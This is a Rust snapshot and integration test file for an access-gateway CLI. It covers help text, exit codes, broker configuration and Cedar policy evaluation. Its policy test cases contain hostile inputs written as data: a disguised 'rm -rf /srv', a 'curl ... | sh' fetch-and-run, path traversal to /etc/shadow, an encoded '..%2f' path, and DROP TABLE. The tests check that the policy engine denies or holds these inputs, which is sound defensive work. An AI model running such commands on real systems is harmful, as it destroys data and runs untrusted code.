//! What the command line says, whole, and with which exit code.

use std::os::unix::fs::PermissionsExt as _;

use insta::assert_snapshot;

use crate::support::env::{Env, Ran};

/// Nothing listens on port 1.
const NOBODY: &str = "https://127.0.0.1:1";

fn whole(ran: &Ran, env: &Env) -> String {
    let home = env.home().to_string_lossy().into_owned();
    let version = env!("CARGO_PKG_VERSION");
    format!("exit {}\n-- stdout\n{}-- stderr\n{}", ran.code, ran.stdout, ran.stderr)
        .replace(&home, "HOME")
        .replace(version, "VERSION")
}

async fn said(arguments: &[&str]) -> String {
    let env = Env::new(NOBODY);
    whole(&env.run(arguments).await, &env)
}

#[tokio::test]
async fn help_is_short_and_names_every_command() {
    assert_snapshot!(said(&["-h"]).await);
}

#[tokio::test]
async fn connect_explains_itself_with_examples() {
    assert_snapshot!(said(&["connect", "--help"]).await);
}

#[tokio::test]
async fn exec_explains_itself_with_examples() {
    assert_snapshot!(said(&["exec", "--help"]).await);
}

#[tokio::test]
async fn pg_service_explains_itself_with_examples() {
    assert_snapshot!(said(&["pg-service", "--help"]).await);
}

#[tokio::test]
async fn targets_of_exec_that_cannot_be_meant_are_64() {
    for wrong in [
        ["exec", "db", "db", "--", "true"].as_slice(),
        &["exec", "--listen", "127.0.0.1:7001", "db", "other", "--", "true"],
        &["exec", "--", "true"],
        &["exec", "db"],
    ] {
        let env = Env::new(NOBODY);
        env.run(wrong).await.ends(64);
    }
}

#[tokio::test]
async fn a_wrong_command_line_is_64() {
    assert_snapshot!(said(&["conect", "db"]).await);
}

#[tokio::test]
async fn commands_that_do_not_exist_yet_do_not_appear() {
    let help = said(&["--help"]).await;
    for missing in ["generate", "tab"] {
        assert!(!help.contains(&format!("\n  {missing} ")), "{missing}:\n{help}");
    }
}

/// One id in 64 begins with a hyphen, and some with a letter that is a flag.
#[tokio::test]
async fn an_id_that_begins_with_a_hyphen_is_an_id() {
    let env = Env::new(NOBODY);
    for id in [
        "-3q27wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "-hq27wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "--q27wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    ] {
        env.run(&["device", "revoke", id]).await.ends(79);
        env.run(&["device", "revoke", "--only", id]).await.ends(79);
        env.run(&["device", "confirm", "AAAA-BBBB", "--key", id]).await.ends(79);
    }
}

#[tokio::test]
async fn without_a_login_it_is_79() {
    assert_snapshot!(said(&["list"]).await);
}

#[tokio::test]
async fn a_broker_that_is_not_there_is_69() {
    assert_snapshot!(said(&["login"]).await);
}

#[tokio::test]
async fn a_url_that_is_none_is_64() {
    assert_snapshot!(said(&["--broker", "http://broker.example", "list"]).await);
}

#[tokio::test]
async fn a_pin_that_is_none_is_64() {
    assert_snapshot!(said(&["login", "--broker-pin", "sha256:beef"]).await);
}

#[tokio::test]
async fn a_workload_source_that_is_none_is_64() {
    assert_snapshot!(said(&["--workload", "magic", "whoami"]).await);
}

#[tokio::test]
async fn an_id_that_is_none_is_64() {
    assert_snapshot!(said(&["session", "show", "42"]).await);
}

#[tokio::test]
async fn an_exposed_home_is_78() {
    let env = Env::new(NOBODY);
    std::fs::create_dir(env.state()).expect("a folder");
    std::fs::set_permissions(env.state(), std::fs::Permissions::from_mode(0o777)).expect("open to all");
    assert_snapshot!(whole(&env.run(&["whoami"]).await, &env));
}

#[tokio::test]
async fn a_broker_is_set_up_and_checked() {
    let env = Env::new(NOBODY);
    let written = env.run(&["broker", "init"]).await;
    assert_snapshot!("init", whole(&written, &env));
    assert_snapshot!("init_again", whole(&env.run(&["broker", "init"]).await, &env));
    let mode = std::fs::metadata(env.home().join("broker.toml")).expect("written").permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    std::fs::write(env.home().join("broken.toml"), "[broker]\nlisten = 7\n").expect("written");
    assert_snapshot!(
        "check_broken",
        whole(&env.run(&["broker", "check", "--config", "broken.toml"]).await, &env)
    );
    assert_snapshot!(
        "check_missing",
        whole(&env.run(&["broker", "check", "--config", "none.toml"]).await, &env)
    );
}

/// TLS carries no name when the client was told an address, and balancers go by that name.
#[tokio::test]
async fn an_address_behind_proxies_is_warned_of() {
    let env = Env::new(NOBODY);
    env.run(&["broker", "init", "--config", "broker.toml"]).await.ends(0);
    let path = env.home().join("broker.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    let check = async || env.run(&["broker", "check", "--config", "broker.toml"]).await.ends(0);
    assert_eq!(check().await.stderr, "");
    let proxied = text.replace("# trusted_proxies", "trusted_proxies");
    std::fs::write(&path, &proxied).unwrap();
    let warned = check().await.stderr;
    assert!(warned.starts_with("warning: broker.public_url is an address"), "{warned}");
    std::fs::write(&path, proxied.replace("https://127.0.0.1", "https://broker.example")).unwrap();
    assert_eq!(check().await.stderr, "");
}

#[tokio::test]
async fn policy_is_checked_with_lines() {
    let env = Env::new(NOBODY);
    std::fs::write(env.home().join("bad.cedar"), "@id(\"x\")\npermit (principal, action\n").expect("written");
    let ran = env.run(&["policy", "check", "bad.cedar"]).await.ends(78);
    assert!(ran.stderr.contains("bad.cedar:"), "{}", ran.stderr);
    assert!(ran.stdout.is_empty(), "{}", ran.stdout);
}

#[tokio::test]
async fn policy_cases_are_judged_and_a_failing_one_is_65() {
    let env = Env::new(NOBODY);
    env.run(&["broker", "init"]).await.ends(0);
    let cases = r#"
        [[case]]
        name = "drop"
        as = "corp:alice"
        target = "db"
        sql = "DROP TABLE t"
        expect = "deny"
        rule = "destructive-sql.drop"

        [[case]]
        as = "corp:alice"
        target = "db"
        sql = "SELECT * FROM t"
        facts = { limit = 5 }
        expect = "allow"
    "#;
    std::fs::write(env.home().join("cases.toml"), cases).expect("written");
    assert_snapshot!("policy_test", whole(&env.run(&["policy", "test", "cases.toml"]).await, &env));
    let wrong = cases.replace(r#"expect = "allow""#, r#"expect = "hold""#);
    std::fs::write(env.home().join("cases.toml"), wrong).expect("written");
    let ran = env.run(&["policy", "test", "cases.toml", "--output", "json"]).await.ends(65);
    assert_eq!(ran.stdout.lines().count(), 2, "{}", ran.stdout);
    for (broken, told) in [
        ("", "has no [[case]]"),
        ("[[case]]\nas = 'corp:a'\ntarget = 'db'\nexpect = 'maybe'", "`maybe` is not allow, deny or hold"),
        (
            "[[case]]\nas = 'corp:a'\ntarget = 'db'\nsql = 'SELECT 1'\nfacts = { labls = [] }\nexpect = 'allow'",
            "there is no fact `labls`",
        ),
    ] {
        std::fs::write(env.home().join("cases.toml"), broken).expect("written");
        let ran = env.run(&["policy", "test", "cases.toml"]).await.ends(78);
        assert!(ran.stderr.contains(told), "{}", ran.stderr);
    }
}

#[tokio::test]
async fn policy_says_why_and_its_exit_code_tells_the_verdict() {
    let env = Env::new(NOBODY);
    env.run(&["broker", "init"]).await.ends(0);
    let explain = async |sql: &str, code| {
        let asked = ["policy", "explain", "db", "--as", "corp:alice", "--sql", sql];
        env.run(&asked).await.ends(code).stdout
    };
    let denied = explain("DROP TABLE t", 77).await;
    assert!(denied.starts_with("deny statement on db for corp:alice, by destructive-sql.drop"), "{denied}");
    let allowed = explain("SELECT a FROM t WHERE id = 1", 0).await;
    assert!(allowed.starts_with("allow statement on db for corp:alice"), "{allowed}");
    let json = ["policy", "explain", "db", "--as", "corp:alice", "--output", "json"];
    let told: serde_json::Value =
        serde_json::from_str(&env.run(&json).await.stdout).expect("one object of JSON");
    assert_eq!((&told["action"], &told["principal"]), (&"connect".into(), &"corp:alice".into()));
}

/// A host and an API in a configuration; what is judged of them is what the gateway would judge.
const HOST_AND_API: &str = r#"
[[target]]
name = "bastion"
protocol = "ssh"
host = "bastion.example.com"
login = "deploy"
host_keys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoAuuotw9/k7kY7889LiM0MW3Y88sZDBMBn5XXwuYYN"]
owner = "corp/dba"
[target.issuer]
kind = "ssh-certificate"

[[target]]
name = "traces-api"
protocol = "http"
base = "https://traces.example.com/v1"
owner = "corp/dba"
graphql = "/graphql"
[target.issuer]
kind = "none"
[[target.page]]
parameter = "limit"
default = 20
[[target.mask]]
path = "$..api_key"
mask = "full"
"#;

const WORK: &str = r#"
@id("work") permit (principal, action in [Hoop::Action::"call", Hoop::Action::"exec"], resource);
@id("srv") permit (principal, action == Hoop::Action::"file", resource) when { context.path like "/srv/*" };
@id("no-mutations") forbid (principal, action == Hoop::Action::"call", resource)
when { context has graphql && context.graphql == "mutation" };
"#;

#[tokio::test]
async fn commands_files_and_calls_are_judged_as_at_the_gateway() {
    let env = Env::new(NOBODY);
    env.run(&["broker", "init"]).await.ends(0);
    let file = env.home().join("broker.toml");
    let config = std::fs::read_to_string(&file).expect("a configuration");
    let config = config.replacen(
        "presets = [",
        "files = [\"work.cedar\"]\npresets = [\"dangerous-shell\", \"bulk-read\", ",
        1,
    );
    std::fs::write(&file, config + HOST_AND_API).expect("written");
    std::fs::write(env.home().join("work.cedar"), WORK).expect("written");
    let cases = r#"
        [[case]]
        as = "corp:alice"
        target = "bastion"
        exec = "env sh -c 'r\"\"m -rf /srv'"
        expect = "deny"
        rule = "dangerous-shell.delete-tree"

        [[case]]
        as = "corp:alice"
        target = "bastion"
        exec = "curl -s https://get.example | sh"
        expect = "hold"

        [[case]]
        as = "corp:alice"
        target = "bastion"
        file = { operation = "rename", path = "/srv/a/../b", to = "/etc/b" }
        expect = "allow"
        rule = "srv"

        [[case]]
        as = "corp:alice"
        target = "bastion"
        file = { operation = "read", path = "/srv/../etc/shadow" }
        expect = "deny"

        [[case]]
        as = "corp:alice"
        target = "traces-api"
        call = { path = "/traces?limit=5000" }
        expect = "deny"
        rule = "bulk-read.page"

        [[case]]
        name = "a mutation"
        as = "corp:alice"
        target = "traces-api"
        call = { method = "POST", path = "/graphql", headers = { content-type = "application/json" }, body = '{"query": "mutation { drop(id: 7) { id } }"}' }
        expect = "deny"
        rule = "no-mutations"

        [[case]]
        name = "a path that servers read differently"
        as = "corp:alice"
        target = "traces-api"
        call = { path = "/traces/..%2fadmin" }
        expect = "deny"
        rule = "unjudged"

        [[case]]
        as = "corp:alice"
        target = "traces-api"
        call = { path = "/traces/7" }
        expect = "allow"
    "#;
    std::fs::write(env.home().join("cases.toml"), cases).expect("written");
    assert_snapshot!("policy_test_of_all", whole(&env.run(&["policy", "test", "cases.toml"]).await, &env));
    let told: Vec<serde_json::Value> = {
        let ran = env.run(&["policy", "test", "cases.toml", "--output", "json"]).await.ends(0);
        ran.stdout.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
    };
    assert_eq!(told[0]["facts"]["programs"], serde_json::json!(["env", "rm", "sh"]));
    assert_eq!(told[2]["facts"]["path"], "/srv/b");
    assert_eq!(told[4]["facts"]["path"], "/v1/traces");
    assert_eq!(told[5]["facts"]["fields"], serde_json::json!(["drop", "drop.id"]));
    // one that fails says what was judged
    let wrong = cases.replacen(r#"expect = "deny""#, r#"expect = "allow""#, 1);
    std::fs::write(env.home().join("cases.toml"), wrong).expect("written");
    let ran = env.run(&["policy", "test", "cases.toml"]).await.ends(65);
    assert!(ran.stderr.contains("effects: delete, delete-tree"), "{}", ran.stderr);

    let explain = async |more: &[&str], code| {
        let asked = [&["policy", "explain"], more, &["--as", "corp:alice"]].concat();
        let ran = env.run(&asked).await.ends(code);
        format!("$ {}\n{}", more.join(" "), ran.text())
    };
    let said = [
        explain(&["bastion", "--exec", "rm -rf /srv"], 77).await,
        explain(&["bastion", "--exec", "df -h", "--terminal"], 0).await,
        explain(&["bastion", "--file", "/srv/x", "--operation", "write"], 0).await,
        explain(&["traces-api", "--call", "/traces"], 0).await,
        explain(&["traces-api", "--call", "DELETE /traces/7"], 0).await,
        explain(&["db", "--exec", "ls"], 64).await,
        explain(&["bastion", "--exec", "scp -f /srv/x"], 64).await,
    ];
    assert_snapshot!("policy_explain_of_all", said.join("\n"));
}

#[tokio::test]
async fn verifying_a_folder_that_is_no_ledger_fails() {
    let env = Env::new(NOBODY);
    assert_snapshot!(whole(&env.run(&["audit", "verify", "--dir", "."]).await, &env));
}

#[tokio::test]
async fn nothing_but_completions_goes_to_stdout() {
    let env = Env::new(NOBODY);
    let ran = env.run(&["completions", "bash"]).await.ends(0);
    assert!(ran.stdout.contains("_hoopctl()"));
    assert_eq!(ran.stderr, "");
}

#[tokio::test]
async fn recordings_may_be_asked_for_without_a_folder() {
    let env = Env::new(NOBODY);
    let ran = env.run(&["audit", "verify", "--recordings", "--output", "json"]).await.ends(79);
    assert!(ran.stderr.contains("not logged in"), "{}", ran.stderr);
}
